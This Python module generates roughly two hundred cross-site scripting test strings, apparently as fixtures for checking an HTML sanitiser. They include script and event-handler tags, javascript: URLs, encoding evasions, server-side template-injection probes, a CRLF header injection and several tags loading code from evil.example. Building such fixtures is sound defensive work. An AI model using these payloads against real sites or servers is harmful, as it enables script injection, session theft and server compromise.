"""Two hundred texts that would run a script where a page lets them out of their place."""

from itertools import product

_ALERT = "alert(1)"

_ELEMENTS = (
    "<script>{js}</script>",
    "<SCRIPT>{js}</SCRIPT>",
    "<sCrIpT\n>{js}</sCrIpT >",
    "<script/x>{js}</script>",
    "<script src=data:,{js}></script>",
    "<script src=//evil.example></script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<script>{js}<!--",
    "<!--><script>{js}</script>-->",
    "<![CDATA[<script>{js}</script>]]>",
    "<?xml><script>{js}</script>",
    "<img src=x onerror={js}>",
    "<img/src=x/onerror={js}>",
    "<img src=x onerror\t=\n{js}>",
    "<img src='x' onerror='{js}'>",
    "<img src=`x`onerror={js}>",
    "<image src=x onerror={js}>",
    "<svg onload={js}>",
    "<svg/onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set onbegin={js} attributename=x>",
    "<svg><a xlink:href=javascript:{js}><text x=20 y=20>x</text></a>",
    "<svg><use href=data:image/svg+xml,{js}#x>",
    "<svg><style><img src=x onerror={js}></style>",
    "<math><mi xlink:href=javascript:{js}>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    "<body onload={js}>",
    "<body onpageshow={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}>",
    "<button autofocus onfocus={js}>x",
    "<details open ontoggle={js}>",
    "<video src=x onerror={js}>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<marquee onstart={js}>x</marquee>",
    "<iframe src=javascript:{js}></iframe>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<object data=javascript:{js}></object>",
    "<embed src=javascript:{js}>",
    "<form action=javascript:{js}><input type=submit></form>",
    "<form><button formaction=javascript:{js}>x</button></form>",
    "<isindex action=javascript:{js} type=image>",
    "<a href=javascript:{js}>x</a>",
    "<a href='java\tscript:{js}'>x</a>",
    "<a href=' javascript:{js}'>x</a>",
    "<a href=data:text/html,<script>{js}</script>>x</a>",
    "<base href=//evil.example/>",
    "<base href=javascript:{js}//>",
    "<link rel=stylesheet href=//evil.example>",
    "<link rel=import href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=javascript:{js}>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example';</style>",
    "<style>*{{background:url(//evil.example)}}</style>",
    "<div style=width:expression({js})>",
    "<div style=background:url(javascript:{js})>",
    "<template><script>{js}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<title></title><script>{js}</script>",
    "<textarea></textarea><script>{js}</script>",
    "<xmp></xmp><script>{js}</script>",
    "<portal src=javascript:{js}>",
    "<dialog open onclose={js}>",
    "<x onclick={js} tabindex=1 id=x>x</x>",
    "<x contenteditable onblur={js}>x</x>",
    "<x onanimationend={js} style=animation:x>",
)

_SHORT = (
    "<script>{js}</script>",
    "<img src=x onerror={js}>",
    "<svg onload={js}>",
    "<a href=javascript:{js}>x",
    "<details open ontoggle={js}>",
    "<iframe srcdoc=<script>{js}</script>>",
)

_WAYS_OUT = (
    '"',
    "'",
    '">',
    "'>",
    "`>",
    "</title>",
    "</h1></main>",
    "</textarea>",
    "--></style></script>",
    "\u2028",
)

_ATTRIBUTES = (
    " onmouseover={js} ",
    " onfocus={js} autofocus ",
    " autofocus=x onfocus={js} x=",
    "/onclick={js}/",
    " style=x:expression({js}) ",
    " formaction=javascript:{js} ",
    "\nonerror={js}\n",
    "\fonload={js}\f",
    " srcdoc=<script>{js}</script> ",
)

_ODD = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "java\nscript:{js}",
    "&#106;avascript:{js}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "{{{{7*7}}}}",
    "{{{{ view.__class__.__mro__ }}}}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{x}}}}{{% endfor %}}",
    "{{% trans %}}x{{% endtrans %}}",
    "{{# a comment #}}",
    "${{{js}}}",
    "#{{{js}}}",
    "<%= {js} %>",
    "%(app)s %(site)s %s %d %n",
    "%3Cscript%3E{js}%3C/script%3E",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "&#x3c;script&#x3e;{js}",
    "&amp;lt;script&amp;gt;",
    "\\x3cscript\\x3e{js}",
    "\\u003cscript\\u003e{js}",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
    "\u02bcscript\u02bc",
    "<\u200bscript>{js}</script>",
    "<script\u00a0>{js}</script>",
    "\u202e<script>{js}</script>",
    "<<script>{js}//<</script>",
    "<script",
    "</",
    "<!",
    "<!doctype html><script>{js}</script>",
    "]]>",
    "';{js};//",
    '";{js};//',
    "</script><script>{js}</script>",
    "<a\x01href=javascript:{js}>x",
    "x\r\nContent-Type: text/html\r\n\r\n<script>{js}</script>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror={js} )//",
)


def _texts() -> list[str]:
    elements = [one.format(js=_ALERT) for one in _ELEMENTS]
    attributes = [
        quote + one.format(js=_ALERT) for quote, one in product(("", '"', "'"), _ATTRIBUTES)
    ]
    escapes = [out + one.format(js=_ALERT) for out, one in product(_WAYS_OUT, _SHORT)]
    odd = [one.format(js=_ALERT) for one in _ODD]
    long = ["<script>alert(1)</script>" * 40, "<" * 1000, '"' * 1000, "&" * 1000]
    deep = [
        "<b>" * 200 + "<script>alert(1)</script>",
        "<table><tr><td>" * 20 + "<svg onload=alert(1)>",
    ]
    return list(dict.fromkeys([*elements, *attributes, *escapes, *odd, *long, *deep]))


TEXTS = _texts()
